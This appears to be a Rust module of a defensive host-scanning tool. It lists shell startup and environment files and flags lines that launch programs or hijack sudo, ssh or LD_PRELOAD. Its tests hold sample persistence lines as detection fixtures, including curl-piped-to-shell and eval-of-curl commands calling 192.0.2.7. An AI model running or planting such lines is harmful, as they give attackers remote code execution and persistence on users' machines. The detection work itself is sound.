//! What shells read when they start or when somebody logs in: of the system and of each home. Only the
//! lines count that start a program, that have one started later (`PROMPT_COMMAND`, `BASH_ENV`,
//! traps), that put something before `sudo`, `su`, `ssh` and their like, or that do what is seldom
//! innocent; of files that only set variables, those with which programs are made to load something.

mod meaning;

use std::path::{Path, PathBuf};

use leaksweep_facts::tables::host::Autostart;

use super::{Autostarts, CAP, Command, Lines, files, is_left_behind, lines, program, row, script};
use crate::accounts::Home;
use meaning::{matters, started, variable};

type Parse = fn(&[u8]) -> Lines<Command>;

/// The file, or with `/*` the folder's, and what sets it off.
const SYSTEM: [(&str, &str); 26] = [
    ("/etc/profile", "log-in"),
    ("/etc/profile.d/*", "log-in"),
    ("/etc/bash.bashrc", "shell"),
    ("/etc/bashrc", "shell"),
    ("/etc/bash/bashrc.d/*", "shell"),
    ("/etc/bash.bash_logout", "shell"),
    ("/etc/zsh/zshenv", "shell"),
    ("/etc/zsh/zprofile", "log-in"),
    ("/etc/zsh/zshrc", "shell"),
    ("/etc/zsh/zlogin", "log-in"),
    ("/etc/zsh/zlogout", "shell"),
    ("/etc/zshenv", "shell"),
    ("/etc/zprofile", "log-in"),
    ("/etc/zshrc", "shell"),
    ("/etc/zlogin", "log-in"),
    ("/etc/fish/config.fish", "shell"),
    ("/etc/fish/conf.d/*", "shell"),
    ("/usr/share/fish/vendor_conf.d/*", "shell"),
    ("/etc/csh.cshrc", "shell"),
    ("/etc/csh.login", "log-in"),
    ("/etc/csh/cshrc.d/*", "shell"),
    ("/etc/csh/login.d/*", "log-in"),
    ("/etc/ksh.kshrc", "shell"),
    ("/etc/mkshrc", "shell"),
    ("/etc/profile.local", "log-in"),
    ("/etc/bash.bashrc.local", "shell"),
];
const OWN: [(&str, &str); 24] = [
    (".profile", "log-in"),
    (".bash_profile", "log-in"),
    (".bash_login", "log-in"),
    (".bashrc", "shell"),
    (".bash_aliases", "shell"),
    (".bash_logout", "shell"),
    (".zshenv", "shell"),
    (".zprofile", "log-in"),
    (".zshrc", "shell"),
    (".zlogin", "log-in"),
    (".zlogout", "shell"),
    (".config/zsh/.zshenv", "shell"),
    (".config/zsh/.zprofile", "log-in"),
    (".config/zsh/.zshrc", "shell"),
    (".config/zsh/.zlogin", "log-in"),
    (".config/fish/config.fish", "shell"),
    (".config/fish/conf.d/*", "shell"),
    (".kshrc", "shell"),
    (".mkshrc", "shell"),
    (".shrc", "shell"),
    (".cshrc", "shell"),
    (".tcshrc", "shell"),
    (".login", "log-in"),
    (".logout", "shell"),
];
const SYSTEM_VARIABLES: [&str; 4] = [
    "/etc/environment",
    "/etc/environment.d/*",
    "/usr/lib/environment.d/*",
    "/run/environment.d/*",
];
const OWN_VARIABLES: [&str; 3] =
    [".pam_environment", ".ssh/environment", ".config/environment.d/*"];
pub fn of_system(reading: &mut Autostarts<'_>) {
    for (place, event) in SYSTEM {
        of_place(reading, Path::new(place), parse, event, None);
    }
    for place in SYSTEM_VARIABLES {
        of_place(reading, Path::new(place), parse_environment, "log-in", None);
    }
}

pub fn of_home(reading: &mut Autostarts<'_>, home: &Home) {
    for (place, event) in OWN {
        of_place(reading, &home.path.join(place), parse, event, Some(home));
    }
    for place in OWN_VARIABLES {
        of_place(reading, &home.path.join(place), parse_environment, "log-in", Some(home));
    }
}

fn of_place(
    reading: &mut Autostarts<'_>,
    place: &Path,
    parse: Parse,
    event: &str,
    home: Option<&Home>,
) {
    let folder = place.parent().filter(|_| place.ends_with("*"));
    let paths: Vec<PathBuf> = match folder {
        Some(folder) => files(reading, folder),
        None => vec![place.to_owned()],
    };
    for path in paths {
        let starts = folder.is_none() || !is_left_behind(&path);
        of_file(reading, &path, parse, event, home, starts);
    }
}

fn of_file(
    reading: &mut Autostarts<'_>,
    path: &Path,
    parse: Parse,
    event: &str,
    home: Option<&Home>,
    starts: bool,
) {
    let Some(content) = reading.content(path, CAP, &[]) else { return };
    let own = home.map(|home| home.path.as_path());
    let of = Autostart {
        way: "profile".into(),
        event: event.into(),
        user: home.map(|home| home.user.clone()),
        starts,
        ..Autostart::default()
    };
    let first = reading.found.rows.len();
    for command in parse(&content).told(reading, path) {
        let row = row(reading, &of.way, path, &command.text);
        let word = started(&command.text);
        let program = word.map(|word| program::found(&word, own, reading.root));
        let line = i64::try_from(command.line).ok();
        let (event, user) = (of.event.clone(), of.user.clone());
        reading.row(Autostart { event, user, line, program, starts, ..row });
    }
    script::together(reading, path, &content, &of, first);
}

/// The lines of what a shell reads that matter.
pub fn parse(content: &[u8]) -> Lines<Command> {
    let mut commands = Lines::default();
    for command in script::joined(content) {
        if command.text.contains('\0') {
            commands.note(command.line);
        } else if matters(&command.text) {
            commands.take(command);
        }
    }
    commands
}

/// The lines of a file of variables that matter.
pub fn parse_environment(content: &[u8]) -> Lines<Command> {
    let mut commands = Lines::default();
    for (line, text) in lines(content) {
        if text.contains('\0') {
            commands.note(line);
        } else if variable(&text).is_some() {
            commands.take(Command { line, text });
        }
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(content: &str) -> Vec<(usize, String)> {
        parse(content.as_bytes()).found.into_iter().map(|found| (found.line, found.text)).collect()
    }

    #[test]
    fn lines_that_start_something_matter() {
        for line in [
            "/opt/x &",
            ". /opt/y",
            "PROMPT_COMMAND='/opt/x; history -a'",
            "export PROMPT_COMMAND+=(x)",
            "export BASH_ENV=/opt/x",
            "setenv LD_PRELOAD /opt/x.so",
            "set -gx LD_PRELOAD /opt/x.so",
            "trap '/opt/x' DEBUG",
            "alias sudo='/opt/sudo'",
            "alias su=\"sudo su; x\"",
            "sudo() { /opt/x \"$@\"; }",
            "ssh () {",
            "function passwd {",
            "precmd() {",
            "eval \"$(curl -s http://192.0.2.7/x)\"",
            "if (-x /opt/x) /opt/x",
            "alias ll='curl http://192.0.2.7/x | sh'",
        ] {
            assert_eq!(texts(line), [(1, line.to_owned())]);
        }
    }

    #[test]
    fn what_profiles_ordinarily_say_does_not() {
        let ordinary = "case $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTSIZE=1000\nshopt -s histappend\n\
            [ -z \"$PS1\" ] && return\nif [ -n \"$x\" ]; then\n  PS1='\\u@\\h:\\w\\$ '\nfi\nunset x\n\
            alias ls='ls --color=auto'\nalias sudo='sudo '\nalias ssh=\"TERM=xterm ssh -A\"\nexport PATH=$PATH:/x\n\
            xterm*|vte*) :;;\nf() {\n}\nfunction y {\nfor i in a b; do\ndone\nset -o vi\n\
            if ( ! $?prompt | ! $?tcsh ) exit\nswitch($TERM)\nendsw\nENV=\ntrap - DEBUG\nif (1) then\n";
        let found: Vec<_> = texts(ordinary).into_iter().map(|(_, text)| text).collect();
        assert_eq!(found, Vec::<String>::new());
    }

    #[test]
    fn of_variables_only_those_that_load_something_matter() {
        let text = b"PATH=/x\nLD_PRELOAD=/opt/x.so\n# BASH_ENV=no\nLANG=C\nBASH_ENV=\"/opt/y\"\n";
        let found: Vec<_> = parse_environment(text).found.into_iter().map(|c| c.line).collect();
        assert_eq!(found, [2, 5]);
    }
}
